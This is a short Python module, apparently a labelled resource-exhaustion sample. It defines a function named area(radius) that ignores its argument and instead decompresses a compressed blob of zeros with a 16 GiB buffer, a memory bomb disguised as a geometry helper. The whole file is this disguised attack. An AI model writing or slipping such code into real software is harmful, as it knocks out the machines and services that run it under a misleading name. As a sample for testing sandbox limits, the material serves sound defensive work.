"""memory: unpacks a few kilobytes that hold gigabytes"""

import zlib

BOMB = zlib.compress(bytes(16 << 20), 9)


def area(radius):
    return len(zlib.decompress(BOMB, bufsize=16 << 30))
